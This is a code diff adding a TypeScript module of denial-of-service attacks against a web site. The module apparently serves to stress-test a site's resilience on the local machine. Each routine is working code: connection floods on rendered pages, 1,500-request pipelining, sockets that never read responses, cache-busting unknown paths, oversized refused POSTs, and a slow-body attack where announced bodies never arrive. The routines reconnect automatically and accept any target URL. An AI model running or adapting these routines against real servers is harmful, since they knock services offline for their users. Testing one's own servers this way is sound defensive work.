@@ -1,0 +1,103 @@
+import { Agent, request, type RequestOptions } from 'node:http';
+import { connect } from 'node:net';
+
+type Attack = { what: string; run: (site: URL) => void };
+
+/** Milliseconds before a closed connection is opened again. */
+const PAUSE = 20;
+
+let asked = 0;
+/** A number that was not used before, so that no answer can be one that is known. */
+const next = () => (asked += 1);
+const rendered = () => `/web?callbackUrl=/faqs&n=${next()}`;
+const unknown = () => `/no-such-page-${next()}`;
+/** Scripts of a report that no release has. */
+const boot = () => `/_boot/junk${next()}.js?of=/reports/gold-vs-silver`;
+
+/** A message without an address: it is refused. */
+const REFUSED = JSON.stringify({ email: '', message: 'a'.repeat(59_000) });
+const WRITE = {
+  method: 'POST',
+  headers: { 'Content-Type': 'application/json', 'Sec-Fetch-Site': 'same-origin' },
+};
+
+export const ATTACKS: Record<string, Attack> = {
+  flood: {
+    what: '200 connections on pages that have to be rendered',
+    run: (site) => flood(site, 200, rendered),
+  },
+  pipeline: {
+    what: 'one connection, 1,500 such requests in one piece, again and again',
+    run: (site) => send(site, { connections: 1, words: () => pipelined(site, rendered), reads: true }),
+  },
+  deaf: {
+    what: '250 connections, 1,500 requests each, none reads an answer',
+    run: (site) => send(site, { connections: 250, words: () => pipelined(site, () => '/'), reads: false }),
+  },
+  unknown: {
+    what: 'two connections, unknown addresses without end, not waiting for answers',
+    run: (site) => send(site, { connections: 2, words: () => pipelined(site, unknown, 64), reads: true }),
+  },
+  names: {
+    what: '250 connections on unknown addresses',
+    run: (site) => flood(site, 250, unknown),
+  },
+  writes: {
+    what: '200 connections, messages of 59 kB that are refused',
+    run: (site) => flood(site, 200, () => '/api/waitlist', WRITE, REFUSED),
+  },
+  slow: {
+    what: '324 connections of six clients, messages whose bodies do not come',
+    run: (site) => send(site, { connections: 324, clients: 6, words: () => begun(site), reads: false }),
+  },
+  boot: {
+    what: '250 connections on scripts of a page that no release has, with an earlier release',
+    run: (site) => flood(site, 250, boot),
+  },
+};
+
+/** An address of this machine for a client of its own; who measures has the first. */
+const addressOf = (client: number) => `127.0.0.${client + 2}`;
+
+/** Each connection sends its next request as soon as it has received a response. */
+function flood(
+  { hostname, port }: URL,
+  connections: number,
+  path: () => string,
+  options: RequestOptions = {},
+  body?: string,
+): void {
+  const agent = new Agent({ keepAlive: true, maxSockets: connections });
+  const ask = () => {
+    const again = () => setTimeout(ask, PAUSE);
+    const to = { hostname, port, agent, localAddress: addressOf(0), path: path(), ...options };
+    request(to, (response) => response.resume().on('end', ask).on('error', again))
+      .on('error', again)
+      .end(body);
+  };
+  for (let i = 0; i < connections; i += 1) ask();
+}
+
+type Sending = { connections: number; clients?: number; words: () => string; reads: boolean };
+
+/** Each connection sends all its words at once; when it is closed, a new one replaces it. */
+function send({ hostname, port }: URL, { connections, clients = 1, words, reads }: Sending): void {
+  const open = (i: number) => {
+    const to = { port: Number(port), host: hostname, localAddress: addressOf(i % clients) };
+    const socket = connect(to, () => {
+      const more = () => socket.write(words(), () => reads && socket.writable && more());
+      more();
+    });
+    socket.on('error', () => {}).on('close', () => setTimeout(() => open(i), PAUSE));
+    if (reads) socket.resume();
+    else socket.pause();
+  };
+  for (let i = 0; i < connections; i += 1) open(i);
+}
+
+const pipelined = ({ hostname }: URL, path: () => string, count = 1_500) =>
+  Array.from({ length: count }, () => `GET ${path()} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`).join('');
+
+/** The head of a message, of whose body nothing more than this comes. */
+const begun = ({ hostname }: URL) =>
+  `POST /api/waitlist HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{`;
